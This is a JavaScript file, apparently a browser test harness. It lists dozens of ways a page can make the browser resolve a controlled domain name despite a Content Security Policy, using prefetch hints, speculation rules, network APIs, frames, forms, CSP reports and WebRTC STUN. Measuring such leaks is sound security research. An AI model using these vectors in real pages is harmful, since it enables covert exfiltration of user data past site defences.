// Exfiltration by name: a lookup tells the name server of whoever owns the domain what the name says, whether or not
// anything is sent afterwards. `setup.lookup` is a name that nobody else looks up.
const lookup = `http://${setup.lookup}:${setup.tcp}/`;
const link = (rel, more) => Object.assign(document.createElement("link"), { rel, href: lookup, ...more });
const head = (rel, more) => void document.head.append(link(rel, more));
const child = (html) => element("iframe", { srcdoc: html });

// Hints: no content policy has a directive for them.
attacks["name-dns-prefetch"] = () => head("dns-prefetch");
attacks["name-dns-prefetch-body"] = () => void document.body.append(link("dns-prefetch"));
attacks["name-dns-prefetch-markup"] = () => add(`<link rel="dns-prefetch" href="//${setup.lookup}">`);
attacks["name-dns-prefetch-child"] = () => void child(`<link rel="dns-prefetch" href="${lookup}">`);
attacks["name-dns-prefetch-shadow"] = () =>
  void element("div").attachShadow({ mode: "closed" }).append(link("dns-prefetch"));
attacks["name-preconnect"] = () => head("preconnect");
attacks["name-preconnect-cors"] = () => head("preconnect", { crossOrigin: "anonymous" });
attacks["name-preconnect-markup"] = () => add(`<link rel="preconnect" href="${lookup}" crossorigin="use-credentials">`);
attacks["name-preconnect-child"] = () => void child(`<link rel="preconnect" href="${lookup}">`);
attacks["name-link-in-sight"] = () => {
  document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="x-dns-prefetch-control" content="on">');
  element("a", { href: lookup, textContent: "x" });
};
attacks["name-link-in-a-child"] = () =>
  void child(`<meta http-equiv="x-dns-prefetch-control" content="on"><a href="${lookup}">x</a>`);
attacks["name-pressed-link"] = () => element("a", { href: lookup, textContent: "x", style: "position: fixed; inset: 0" });
attacks["name-prerender"] = () => head("prerender");
attacks["name-speculated"] = () => speculate("prefetch");
attacks["name-speculated-prerender"] = () => speculate("prerender");
const speculate = (what) => {
  const rules = { [what]: [{ source: "list", urls: [lookup], eagerness: "immediate" }] };
  element("script", { type: "speculationrules", textContent: JSON.stringify(rules) });
};

// Requests that the content policy refuses: is the name looked up before it is asked?
attacks["name-prefetch"] = () => head("prefetch");
attacks["name-preload"] = () => head("preload", { as: "image" });
attacks["name-preload-fetch"] = () => head("preload", { as: "fetch", crossOrigin: "anonymous" });
attacks["name-modulepreload"] = () => head("modulepreload");
attacks["name-stylesheet"] = () => head("stylesheet");
attacks["name-dictionary"] = () => head("compression-dictionary");
attacks["name-fetch"] = () => fetch(lookup, { mode: "no-cors" });
attacks["name-beacon"] = () => navigator.sendBeacon(lookup, "x");
attacks["name-websocket"] = () => new WebSocket(lookup.replace("http", "ws"));
attacks["name-websocket-stream"] = () => new WebSocketStream(lookup.replace("http", "ws")).opened;
attacks["name-eventsource"] = () => new EventSource(lookup);
attacks["name-webtransport"] = () => new WebTransport(lookup.replace("http", "https")).ready;
attacks["name-image"] = () => (new Image().src = lookup);
attacks["name-media"] = () => new Audio(lookup).load();
attacks["name-font"] = () => new FontFace("leak", `url("${lookup}")`).load();
attacks["name-script"] = () => element("script", { src: lookup });
attacks["name-import"] = () => import(lookup);
attacks["name-worker"] = () => new Worker("data:text/javascript," + encodeURIComponent(`importScripts("${lookup}")`));
attacks["name-worker-fetch"] = () => new Worker("data:text/javascript," + encodeURIComponent(`fetch("${lookup}")`));
attacks["name-report"] = () => {
  const policy = `img-src 'none'; report-uri ${lookup}`;
  document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="Content-Security-Policy" content="${policy}">`);
  new Image().src = "data:,x";
};
attacks["name-icon"] = () => head("icon");
attacks["name-manifest"] = () => head("manifest");

// Places to go: the name of one that is refused may have been looked up already.
attacks["name-frame"] = () => element("iframe", { src: lookup });
attacks["name-frame-location"] = async () => {
  const frame = element("iframe");
  frame.contentWindow.location = lookup;
};
attacks["name-frame-in-frame"] = () => void child(`<iframe src="${lookup}"></iframe>`);
attacks["name-frame-refresh"] = () => void child(`<meta http-equiv="refresh" content="0;url=${lookup}">`);
attacks["name-object"] = () => element("object", { data: lookup });
attacks["name-embed"] = () => element("embed", { src: lookup });
attacks["name-form"] = () => element("form", { action: lookup, method: "post" }).submit();
attacks["name-form-in-frame"] = () => void child(`<form action="${lookup}"></form><script>document.forms[0].submit()<\/script>`);
attacks["name-link"] = () => void element("a", { href: lookup, onclick: (event) => event.stopPropagation() }).click();
attacks["name-location"] = () => void (location = lookup);
attacks["name-refresh"] = () =>
  document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0;url=${lookup}">`);

// WebRTC looks names up as well.
const gather = async (urls) => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls, username: "x", credential: "x" }] });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
};
attacks["name-stun"] = () => gather(`stun:${setup.lookup}:${setup.udp}`);
attacks["name-stun-child"] = () => {
  const code = `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${setup.lookup}:${setup.udp}" }] });` +
    `p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));`;
  child(`<script>${code}<\/script>`);
};
